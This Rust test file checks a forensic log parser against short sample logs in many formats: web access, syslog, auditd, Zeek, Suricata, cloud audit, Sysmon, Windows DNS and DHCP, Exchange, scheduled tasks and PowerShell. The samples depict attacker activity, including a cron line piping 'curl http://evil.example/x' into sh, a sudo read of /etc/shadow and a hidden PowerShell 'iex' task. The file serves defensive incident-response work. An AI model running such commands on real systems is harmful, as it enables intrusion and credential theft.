//! Logs of servers, sensors and services: what becomes of a few lines of each, written for this.

use daylight_model::LogFamily;

use crate::support::{Kept, Outcome, problems, read_content};

/// Reads a log and checks what it was taken for.
#[track_caller]
fn read(content: impl AsRef<[u8]>, kind: &str, family: LogFamily) -> Outcome {
    let outcome = read_content(content);
    assert_eq!(outcome.record.kind, kind);
    let families: Vec<LogFamily> = outcome.events.iter().map(|event| event.family).collect();
    assert!(families.iter().all(|one| *one == family), "{families:?}");
    outcome
}

#[track_caller]
fn check(event: &Kept, time: &str, expected: &[(&str, &str)]) {
    assert_eq!(event.time, time, "{event:?}");
    for (name, value) in expected {
        assert_eq!(event.field(name), *value, "{name} of {event:#?}");
    }
}

fn utf16(text: &str) -> Vec<u8> {
    let text = format!("\u{feff}{text}");
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn access_logs() {
    let log = r#"203.0.113.9 - - [03/Mar/2021:06:30:11 +0100] "GET /owa/auth/x.aspx?url=a%20b HTTP/1.1" 200 512 "https://mail.example/owa" "Mozilla/5.0 (X11; \"odd\")"
mail.example:443 2001:db8::9 - jane doe [03/Mar/2021:06:30:12 +0000] "POST /ecp/y.js HTTP/2.0" 241 - "-" "curl/7.68"
198.51.100.1 - - [03/Mar/2021:06:30:13 +0000] "\x16\x03\x01" 400 226
198.51.100.1 - - [03/Mar/2021:06:30:14 +0000] "HEAD / HTTP/1.0" 200 0
not a request
"#;
    let outcome = read(log, "access-log", LogFamily::WebAccess);
    let [first, second, third, _, last] = outcome.events.as_slice() else {
        panic!("{:?}", outcome.events);
    };
    check(
        first,
        "2021-03-03T05:30:11Z",
        &[
            ("c-ip", "203.0.113.9"),
            ("cs-method", "GET"),
            ("cs-uri", "/owa/auth/x.aspx?url=a%20b"),
            ("cs-uri-stem", "/owa/auth/x.aspx"),
            ("cs-uri-query", "url=a%20b"),
            ("cs-version", "1.1"),
            ("sc-status", "200"),
            ("sc-bytes", "512"),
            ("cs-referer", "https://mail.example/owa"),
            ("cs-user-agent", r#"Mozilla/5.0 (X11; \"odd\")"#),
        ],
    );
    check(
        second,
        "2021-03-03T06:30:12Z",
        &[
            ("c-ip", "2001:db8::9"),
            ("cs-username", "jane doe"),
            ("cs-host", "mail.example"),
        ],
    );
    check(
        third,
        "2021-03-03T06:30:13Z",
        &[("cs-uri", r"\x16\x03\x01"), ("cs-method", "(none)")],
    );
    assert_eq!(
        (last.text.as_str(), last.record, last.offset),
        ("not a request", 5, log.len() as u64 - 14)
    );
    assert_eq!(
        problems(&outcome.record),
        [format!("{}/5: not a line of an access log", log.len() - 14)]
    );
    assert_eq!(outcome.record.records_failed, 1);
}

#[test]
fn syslog_of_three_kinds() {
    let log = r#"2021-03-03T06:30:11.250+01:00 web01 sshd[812]: Accepted password for root from 203.0.113.9 port 50022 ssh2
<86>1 2021-03-03T06:30:12Z web01 sudo 813 - [meta@1 a="]"][b] jane : TTY=pts/0 ; PWD=/home/jane ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow ; id
2021-03-03T06:30:13Z web01 /usr/sbin/cron[9]: (root) CMD (curl http://evil.example/x | sh)
2021-03-03T06:30:14Z web01 sshd[812]: Failed password for invalid user a from b from 198.51.100.7 port 1 ssh2
2021-03-03T06:30:15Z web01 kernel: [12.5] usb 1-1: new device
"#;
    let outcome = read(log, "syslog", LogFamily::Syslog);
    assert_eq!(outcome.record.hosts, ["web01"]);
    assert_eq!(problems(&outcome.record), [""; 0]);
    let events = &outcome.events;
    assert_eq!(events[0].provider, "sshd");
    check(
        &events[0],
        "2021-03-03T05:30:11.25Z",
        &[
            ("pid", "812"),
            ("User", "root"),
            ("src_ip", "203.0.113.9"),
            ("src_port", "50022"),
            ("action", "Accepted"),
        ],
    );
    check(
        &events[1],
        "2021-03-03T06:30:12Z",
        &[
            ("facility", "10"),
            ("severity", "6"),
            ("User", "jane"),
            ("TargetUser", "root"),
            ("CurrentDirectory", "/home/jane"),
            ("CommandLine", "/usr/bin/cat /etc/shadow ; id"),
        ],
    );
    check(
        &events[2],
        "2021-03-03T06:30:13Z",
        &[
            ("program", "cron"),
            ("CommandLine", "curl http://evil.example/x | sh"),
        ],
    );
    check(
        &events[3],
        "2021-03-03T06:30:14Z",
        &[
            ("User", "a from b"),
            ("src_ip", "198.51.100.7"),
            ("action", "Failed"),
        ],
    );
    check(
        &events[4],
        "2021-03-03T06:30:15Z",
        &[("message", "[12.5] usb 1-1: new device")],
    );
}

#[test]
fn syslog_without_a_year_takes_that_of_the_file() {
    let folder = crate::support::folder(&[(
        "log",
        b"Dec 31 23:59:59 web01 su: (to root) jane on pts/0\nJan  1 00:00:01 web01 su: x\n",
    )]);
    let path = folder.path().join("log");
    let changed: daylight_model::Timestamp = "2021-01-01T00:00:02Z".parse().unwrap();
    let file = std::fs::File::options().write(true).open(&path).unwrap();
    file.set_modified(changed.try_into().unwrap()).unwrap();
    let (keeper, _) = crate::support::read_paths(&[path], &daylight_evidence::Options::default());
    check(
        &keeper.events[0],
        "2020-12-31T23:59:59Z",
        &[("User", "jane"), ("TargetUser", "root")],
    );
    check(&keeper.events[1], "2021-01-01T00:00:01Z", &[]);
}

#[test]
fn audit_records() {
    let log = "node=web01 type=SYSCALL msg=audit(1614752411.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55f1 ppid=812 pid=813 uid=33 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"exec\"\u{1d}ARCH=x86_64 SYSCALL=execve\n\
        node=web01 type=EXECVE msg=audit(1614752411.123:456): argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=6375726C206576696C2E6578616D706C65\n\
        node=web01 type=PROCTITLE msg=audit(1614752411.123:456): proctitle=2F62696E2F7368002D63\n\
        node=web01 type=USER_LOGIN msg=audit(1614752412.000:457): pid=9 uid=0 msg='op=login acct=\"jane\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 res=success'\n\
        half a recor\n";
    let outcome = read(log, "auditd", LogFamily::Auditd);
    let events = &outcome.events;
    assert_eq!(
        (events[0].provider.as_str(), events[0].host.as_str()),
        ("SYSCALL", "web01")
    );
    check(
        &events[0],
        "2021-03-03T06:20:11.123Z",
        &[
            ("type", "SYSCALL"),
            ("syscall", "execve"),
            ("a0", "55f1"),
            ("Image", "/usr/bin/dash"),
            ("key", "exec"),
            ("SYSCALL", "execve"),
            ("ParentProcessId", "812"),
        ],
    );
    check(
        &events[1],
        "2021-03-03T06:20:11.123Z",
        &[
            ("a2", "curl evil.example"),
            ("CommandLine", "/bin/sh -c curl evil.example"),
            ("Image", "/bin/sh"),
        ],
    );
    check(
        &events[2],
        "2021-03-03T06:20:11.123Z",
        &[("CommandLine", "/bin/sh -c")],
    );
    check(
        &events[3],
        "2021-03-03T06:20:12Z",
        &[
            ("acct", "jane"),
            ("addr", "203.0.113.9"),
            ("res", "success"),
            ("op", "login"),
        ],
    );
    assert_eq!(outcome.record.records_failed, 1);
}

#[test]
fn zeek_by_tabs_and_as_json() {
    let log = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n\
        #fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tquery\tqtype_name\tanswers\n#types\ttime\tstring\taddr\tport\taddr\tstring\tstring\tvector\n\
        1614752411.123456\tC1\t10.0.0.5\t50022\t10.0.0.1\tevil.example\tA\t198.51.100.7\n\
        1614752412.000000\tC2\t10.0.0.5\t50023\t10.0.0.1\t-\tA\n#close\t2021-03-03-07-00-00\n";
    let outcome = read(log, "zeek", LogFamily::Zeek);
    assert_eq!(outcome.events[0].provider, "dns");
    let names = [
        ("query", "evil.example"),
        ("c-ip", "10.0.0.5"),
        ("src_port", "50022"),
        ("dst_ip", "10.0.0.1"),
        ("record_type", "A"),
        ("answer", "198.51.100.7"),
    ];
    check(&outcome.events[0], "2021-03-03T06:20:11.123456Z", &names);
    check(&outcome.events[1], "2021-03-03T06:20:12Z", &[("query", "")]);
    let last = log.find("1614752412").unwrap();
    assert_eq!(
        problems(&outcome.record),
        [format!("{last}/9: line has 7 fields; #fields names 8")]
    );

    let json = r#"{"ts":1614752411.5,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":50022,"id.resp_h":"198.51.100.7","id.resp_p":80,"method":"GET","host":"evil.example","uri":"/x?y","user_agent":"curl","status_code":200}
"#;
    let outcome = read(json, "json-lines", LogFamily::Zeek);
    assert_eq!(outcome.events[0].provider, "http");
    let names = [
        ("cs-method", "GET"),
        ("c-uri", "/x?y"),
        ("cs-host", "evil.example"),
        ("c-useragent", "curl"),
        ("sc-status", "200"),
        ("c-ip", "10.0.0.5"),
    ];
    check(&outcome.events[0], "2021-03-03T06:20:11.5Z", &names);
}

#[test]
fn suricata_events() {
    let log = r#"{"timestamp":"2021-03-03T06:30:11.250000+0100","flow_id":1,"event_type":"http","src_ip":"10.0.0.5","src_port":50022,"dest_ip":"198.51.100.7","dest_port":80,"proto":"TCP","http":{"hostname":"evil.example","url":"/x","http_user_agent":"curl","http_method":"GET","status":200}}
{"timestamp":"2021-03-03T06:30:12.000000+0000","flow_id":2,"event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.1","dns":{"type":"answer","rrname":"evil.example","rrtype":"A","answers":[{"rrname":"evil.example","rdata":"198.51.100.7"},{"rrname":"evil.example","rdata":"198.51.100.8"}]}}
{"timestamp":"2021-03-03T06:30:13.000000+0000","flow_id":3,"event_type":"alert","src_ip":"10.0.0.5","dest_ip":"198.51.100.7","alert":{"signature":"Heron","severity":1}}
"#;
    let outcome = read(log, "json-lines", LogFamily::Suricata);
    let events = &outcome.events;
    let providers: Vec<&str> = events.iter().map(|event| event.provider.as_str()).collect();
    assert_eq!(providers, ["http", "dns", "alert"]);
    check(
        &events[0],
        "2021-03-03T05:30:11.25Z",
        &[
            ("c-uri", "/x"),
            ("cs-host", "evil.example"),
            ("c-useragent", "curl"),
            ("dst_ip", "198.51.100.7"),
        ],
    );
    check(
        &events[1],
        "2021-03-03T06:30:12Z",
        &[
            ("query", "evil.example"),
            ("record_type", "A"),
            ("answer", "198.51.100.7|198.51.100.8"),
        ],
    );
    check(
        &events[2],
        "2021-03-03T06:30:13Z",
        &[("alert.signature", "Heron")],
    );
}

#[test]
fn services_in_the_cloud() {
    let trail = r#"{"Records":[{"eventVersion":"1.08","eventTime":"2021-03-03T06:30:11Z","eventSource":"iam.amazonaws.com","eventName":"CreateUser","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.9","userAgent":"aws-cli","requestParameters":{"userName":"heron"},"userIdentity":{"type":"Root"}},
{"eventTime":"2021-03-03T06:30:12Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets","awsRegion":"us-east-1"}]}"#;
    let outcome = read(trail, "json", LogFamily::CloudTrail);
    let names = [
        ("eventSource", "iam.amazonaws.com"),
        ("requestParameters.userName", "heron"),
        ("src_ip", "203.0.113.9"),
        ("userIdentity.type", "Root"),
    ];
    check(&outcome.events[0], "2021-03-03T06:30:11Z", &names);
    check(
        &outcome.events[1],
        "2021-03-03T06:30:12Z",
        &[("eventName", "ListBuckets")],
    );

    let audit = r#"{"CreationTime":"2021-03-03T06:30:11","Operation":"New-InboxRule","Workload":"Exchange","RecordType":1,"ResultStatus":"True","UserId":"jane@mail.example","ClientIP":"203.0.113.9:443","Parameters":[{"Name":"Name","Value":"."},{"Name":"DeleteMessage","Value":"True"}]}
"#;
    let outcome = read(audit, "json-lines", LogFamily::M365Audit);
    assert_eq!(outcome.events[0].provider, "Exchange");
    let names = [
        ("Operation", "New-InboxRule"),
        ("eventName", "New-InboxRule"),
        ("eventSource", "Exchange"),
        ("DeleteMessage", "True"),
        ("User", "jane@mail.example"),
    ];
    check(&outcome.events[0], "2021-03-03T06:30:11Z", &names);
}

#[test]
fn windows_events_as_xml() {
    let event = |id: u32, more: &str| {
        format!(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
             <Provider Name='Microsoft-Windows-Sysmon' Guid='{{1}}'/><EventID>{id}</EventID>\
             <TimeCreated SystemTime='2021-03-03T06:30:11.25Z'/><EventRecordID>7</EventRecordID>\
             <Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WEB01</Computer>\
             </System><EventData><Data Name='Image'>C:\\x.exe</Data><Data Name='CommandLine'>x &lt;a&gt; \
             &amp; &#65; </Data>{more}</EventData></Event>"
        )
    };
    let log = format!(
        "<?xml version=\"1.0\"?>\n<Events>\n{}\n{}\n</Events>",
        event(1, ""),
        event(11, "<Data>un</Data>")
    );
    let outcome = read(&log, "windows-xml", LogFamily::WindowsSysmon);
    assert_eq!(problems(&outcome.record), [""; 0]);
    let names = [
        ("CommandLine", "x <a> & A "),
        ("Image", r"C:\x.exe"),
        ("Provider_Name", "Microsoft-Windows-Sysmon"),
        ("EventID", "1"),
    ];
    check(&outcome.events[0], "2021-03-03T06:30:11.25Z", &names);
    assert_eq!(
        (outcome.events[0].event_id, outcome.events[1].event_id),
        (Some(1), Some(11))
    );
    let second = log.rfind("<Event ").unwrap() as u64;
    assert_eq!(
        (outcome.events[1].record, outcome.events[1].offset),
        (2, second)
    );

    let cut = &log[..log.rfind("</EventData>").unwrap()];
    let outcome = read_content(utf16(cut));
    assert_eq!(outcome.events.len(), 2);
    let offset = 2 + 2 * cut.rfind("<Event ").unwrap();
    assert_eq!(
        problems(&outcome.record),
        [format!("{offset}/2: the last event is cut off")]
    );
}

#[test]
fn sysmon_for_linux() {
    let log = "2021-03-03T06:30:12Z web01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{1}\"/><EventID>1</EventID><TimeCreated SystemTime=\"2021-03-03T06:30:11.000000000Z\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer></System><EventData><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">curl evil.example</Data></EventData></Event>\n\
        2021-03-03T06:30:13Z web01 sysmon: <Event><System><EventID>3</Eve\n";
    let outcome = read(log, "sysmon-linux", LogFamily::SysmonLinux);
    assert_eq!(outcome.events[0].event_id, Some(1));
    check(
        &outcome.events[0],
        "2021-03-03T06:30:11Z",
        &[
            ("Image", "/usr/bin/curl"),
            ("CommandLine", "curl evil.example"),
        ],
    );
    assert_eq!(outcome.record.records_failed, 1);
}

const LOCAL: &str =
    "-/-: times are written in the machine's own zone, which is not known; they are taken as UTC";

#[test]
fn windows_firewall() {
    let log = "#Version: 1.5\r\n#Software: Microsoft Windows Firewall\r\n#Time Format: Local\r\n\
        #Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path\r\n\r\n\
        2021-03-03 06:30:11 ALLOW TCP 10.0.0.5 198.51.100.7 50022 443 0 - 0 0 0 - - - SEND\r\n";
    let outcome = read(log, "windows-firewall", LogFamily::WindowsFirewall);
    let names = [
        ("action", "ALLOW"),
        ("src_ip", "10.0.0.5"),
        ("dst_ip", "198.51.100.7"),
        ("dst_port", "443"),
        ("tcpflags", ""),
    ];
    check(&outcome.events[0], "2021-03-03T06:30:11Z", &names);
    assert_eq!(problems(&outcome.record), [LOCAL]);
}

#[test]
fn dns_debug_and_dhcp() {
    let log = "DNS Server log file creation at 3/3/2021 6:00:00 AM\r\nLog file wrap at 3/3/2021 6:00:00 AM\r\n\r\nMessage logging key (for packets - other items use a subset of these fields):\r\n\tField #  Information\r\n\r\n\
        3/3/2021 6:30:11 PM 0A1C PACKET  000001F2A5B0D0E0 UDP Rcv 10.0.0.5        0002   Q [0001   D   NOERROR] A      (3)www(4)evil(7)example(0)\r\n\
        3/3/2021 6:30:11 PM 0A1C PACKET  000001F2A5B0D0E0 UDP Snd 10.0.0.5        0002 R Q [8085 A DR  NXDOMAIN] AAAA   (4)evil(7)example(0)\r\n";
    let outcome = read(log, "windows-dns-debug", LogFamily::DnsServer);
    assert_eq!(problems(&outcome.record), [LOCAL]);
    let [.., query, answer] = outcome.events.as_slice() else {
        panic!()
    };
    let names = [
        ("query", "www.evil.example"),
        ("record_type", "A"),
        ("src_ip", "10.0.0.5"),
        ("Kind", "query"),
        ("Direction", "Rcv"),
    ];
    check(query, "2021-03-03T18:30:11Z", &names);
    check(
        answer,
        "2021-03-03T18:30:11Z",
        &[
            ("query", "evil.example"),
            ("Kind", "response"),
            ("ResponseCode", "NXDOMAIN"),
        ],
    );

    let log = "\t\tMicrosoft DHCP Service Activity Log\r\n\r\n\r\nEvent ID  Meaning\r\n00\tThe log was started.\r\n10\tA new IP address was leased to a client.\r\n\r\n\
        ID,Date,Time,Description,IP Address,Host Name,MAC Address,User Name, TransactionID, QResult\r\n\
        10,03/23/21,06:30:11,Assign,10.0.0.5,heron.corp.example,00155D010203,,1234,0\r\n11,oops\r\n";
    let outcome = read(log, "windows-dhcp", LogFamily::Dhcp);
    let names = [
        ("src_ip", "10.0.0.5"),
        ("hostname", "heron.corp.example"),
        ("src_mac", "00155D010203"),
    ];
    check(&outcome.events[0], "2021-03-23T06:30:11Z", &names);
    assert_eq!(outcome.events[0].event_id, Some(10));
    assert_eq!(outcome.record.records_failed, 1);
}

#[test]
fn message_tracking() {
    let log = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: Message Tracking Log\r\n#Date: 2021-03-03T06:00:00.000Z\r\n\
        #Fields: date-time,client-ip,client-hostname,server-ip,server-hostname,event-id,recipient-address,message-subject,sender-address\r\n\
        2021-03-03T06:30:11.250Z,203.0.113.9,relay.example,10.0.0.4,MAIL01,RECEIVE,jane@mail.example,\"Invoice, due\",x@evil.example\r\n";
    let outcome = read(
        log,
        "exchange-message-tracking",
        LogFamily::ExchangeTracking,
    );
    let names = [
        ("sender", "x@evil.example"),
        ("recipient", "jane@mail.example"),
        ("subject", "Invoice, due"),
        ("c-ip", "203.0.113.9"),
    ];
    check(&outcome.events[0], "2021-03-03T06:30:11.25Z", &names);
}

#[test]
fn scheduled_tasks() {
    let task = r#"<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2021-03-03T06:30:11</Date><Author>CORP\jane</Author><URI>\Updater</URI></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-w hidden -c "iex"</Arguments></Exec></Actions>
</Task>"#;
    let outcome = read(utf16(task), "scheduled-task", LogFamily::ScheduledTask);
    let names = [
        ("TaskName", r"\Updater"),
        ("CommandLine", r#"powershell.exe -w hidden -c "iex""#),
        ("Image", "powershell.exe"),
        ("User", "S-1-5-18"),
        ("Trigger", "LogonTrigger"),
        ("Author", r"CORP\jane"),
    ];
    check(&outcome.events[0], "2021-03-03T06:30:11Z", &names);
    let outcome = read_content(&task[..task.find("</Actions>").unwrap()]);
    assert_eq!(
        problems(&outcome.record),
        ["0/1: not valid XML: it is cut off"]
    );
}

#[test]
fn powershell_transcripts() {
    let log = "**********************\r\nWindows PowerShell transcript start\r\nStart time: 20210303063011\r\nUsername: CORP\\jane\r\nRunAs User: CORP\\jane\r\nMachine: WEB01 (Microsoft Windows NT 10.0.17763.0)\r\nHost Application: powershell.exe -nop\r\nProcess ID: 812\r\n**********************\r\n\
        **********************\r\nCommand start time: 20210303063020\r\n**********************\r\nPS C:\\> whoami\r\ncorp\\jane\r\n\
        PS>Get-Item evil.example\r\n**********************\r\nWindows PowerShell transcript end\r\nEnd time: 20210303063100\r\n**********************\r\n";
    let outcome = read(
        log,
        "powershell-transcript",
        LogFamily::PowershellTranscript,
    );
    assert_eq!(outcome.record.hosts, ["WEB01"]);
    let [head, first, second] = outcome.events.as_slice() else {
        panic!("{:#?}", outcome.events);
    };
    check(
        head,
        "2021-03-03T06:30:11Z",
        &[
            ("HostApplication", "powershell.exe -nop"),
            ("User", r"CORP\jane"),
        ],
    );
    check(
        first,
        "2021-03-03T06:30:20Z",
        &[("ScriptBlockText", "whoami"), ("User", r"CORP\jane")],
    );
    assert!(first.text.ends_with("corp\\jane"), "{}", first.text);
    check(
        second,
        "2021-03-03T06:30:20Z",
        &[("ScriptBlockText", "Get-Item evil.example")],
    );
}

#[test]
fn tables_with_a_header() {
    let log = "RecordNumber,TimeCreated,EventId,Provider,Channel,Computer,ProcessId,Payload\r\n\
        7,2021-03-03 06:30:11.2500000,4688,Microsoft-Windows-Security-Auditing,Security,WEB01,4,\"{\"\"EventData\"\":{\"\"Data\"\":[{\"\"@Name\"\":\"\"NewProcessName\"\",\"\"#text\"\":\"\"C:\\\\x.exe\"\"},{\"\"@Name\"\":\"\"ProcessId\"\",\"\"#text\"\":\"\"0x1\"\"}]}}\"\r\n";
    let outcome = read(log, "csv", LogFamily::WindowsSecurity);
    let names = [
        ("NewProcessName", r"C:\x.exe"),
        ("Computer", "WEB01"),
        ("ProcessId", "0x1|4"),
    ];
    check(&outcome.events[0], "2021-03-03T06:30:11.25Z", &names);

    let audit = "CreationDate,UserIds,Operations,AuditData\n2021-03-03T06:30:11Z,jane@mail.example,MailItemsAccessed,\"{\"\"CreationTime\"\":\"\"2021-03-03T06:30:11\"\",\"\"Operation\"\":\"\"MailItemsAccessed\"\",\"\"Workload\"\":\"\"Exchange\"\",\"\"ClientIP\"\":\"\"203.0.113.9\"\"}\"\n";
    let outcome = read(audit, "csv", LogFamily::M365Audit);
    check(
        &outcome.events[0],
        "2021-03-03T06:30:11Z",
        &[
            ("src_ip", "203.0.113.9"),
            ("Operations", "MailItemsAccessed"),
        ],
    );

    let other = "timestamp,user,note\n2021-03-03T06:30:11Z,jane,\"two\nlines, one cell\"\n2021-03-03T06:30:12Z,joe\n";
    let outcome = read(other, "csv", LogFamily::Text);
    check(
        &outcome.events[0],
        "2021-03-03T06:30:11Z",
        &[("user", "jane"), ("note", "two\nlines, one cell")],
    );
    assert_eq!(
        problems(&outcome.record),
        ["68/4: row has 2 cells; the header names 3"]
    );
    for prose in [
        "one, two and three\nfour\n",
        "so, what, then\nwell, nothing\nfor a, b\nend\n",
    ] {
        assert_eq!(read_content(prose).record.kind, "text", "{prose}");
    }
}
